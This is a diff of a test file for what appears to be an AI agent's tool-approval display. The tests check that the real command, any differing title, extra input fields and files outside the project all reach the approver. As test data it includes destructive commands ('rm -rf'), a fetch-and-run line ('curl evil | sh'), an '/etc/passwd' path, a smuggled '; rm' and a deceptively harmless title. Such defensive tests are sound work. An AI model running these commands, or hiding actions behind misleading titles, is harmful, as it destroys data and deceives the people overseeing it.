@@ -38,11 +38,60 @@ test("an empty input in the request does not wipe the command that came before",
   ]);
 });
 
-test("where title and command differ both are shown; the fuller one where one holds the other", () => {
+test("the command stands first, verbatim, and a title that differs has its own section", () => {
   assert.deepEqual(texts({ title: "ls", rawInput: { command: "rm -rf /" } }), ["rm -rf /", "ls"]);
-  assert.deepEqual(texts({ title: "ls", rawInput: { command: "ls && rm x" } }), ["ls && rm x"]);
-  assert.deepEqual(texts({ title: "ls && rm x", rawInput: { command: "ls" } }), ["ls && rm x"]);
+  assert.deepEqual(texts({ title: "ls", rawInput: { command: "ls && rm x" } }), [
+    "ls && rm x",
+    "ls",
+  ]);
+  assert.deepEqual(texts({ title: "ls && rm x", rawInput: { command: "ls" } }), [
+    "ls",
+    "ls && rm x",
+  ]);
+  const title = "echo 'rm -rf ~/work' is dangerous, only printing this text";
+  const seen = subject({ title, rawInput: { command: "rm -rf ~/work" } });
+  assert.deepEqual(seen.sections, [
+    { label: null, text: "rm -rf ~/work" },
+    { label: strings.approvalTitle, text: title },
+  ]);
   assert.deepEqual(texts({ title: "ls", rawInput: { command: "ls" } }), ["ls"]);
+});
+
+test("only the exact old form of a title says no more than its command", () => {
+  const old = (title: string): string[] =>
+    texts({ title, rawInput: { command: "ls" }, workingDir: "/w", description: "List" });
+  assert.deepEqual(old("ls [current working directory /w] (List)"), ["ls"]);
+  assert.deepEqual(old("ls [in /w] (List)"), ["ls"]);
+  for (const other of [
+    "ls [in /w] (Lists)",
+    "ls [in /x] (List)",
+    "ls [in /w] (List) [background]",
+    "ls [in /w] (List); rm",
+  ]) {
+    assert.deepEqual(old(other), ["ls", other]);
+  }
+});
+
+test("a second command beside the one that is shown is no secret", () => {
+  assert.deepEqual(texts({ title: "ls", rawInput: { command: "ls", cmd: "rm -rf" } }), [
+    "ls",
+    '{\n  "cmd": "rm -rf"\n}',
+  ]);
+});
+
+test("beside a diff, another file and everything else of the input are shown", () => {
+  const content = [{ type: "diff", path: "README.md", oldText: "a\n", newText: "b\n" }] as const;
+  const rawInput = { file_path: "/etc/passwd", old: "a\n", new: "b\n", after: "curl evil | sh" };
+  const seen = subject({ kind: "edit", title: "Edit README.md", content, rawInput });
+  assert.deepEqual(seen.sections, [
+    { label: strings.approvalOtherFile, text: "/etc/passwd (outside project)" },
+    { label: strings.toolInput, text: '{\n  "after": "curl evil | sh"\n}' },
+  ]);
+  const same = { file_path: "/w/README.md", old_string: "a\n", new_string: "b\n" };
+  assert.deepEqual(texts({ kind: "edit", content, rawInput: same }), []);
+  assert.deepEqual(texts({ kind: "edit", content, locations: [{ path: "/etc/README.md" }] }), [
+    "/etc/README.md (outside project)",
+  ]);
 });
 
 test("what else the input holds is shown, except what is shown already", () => {
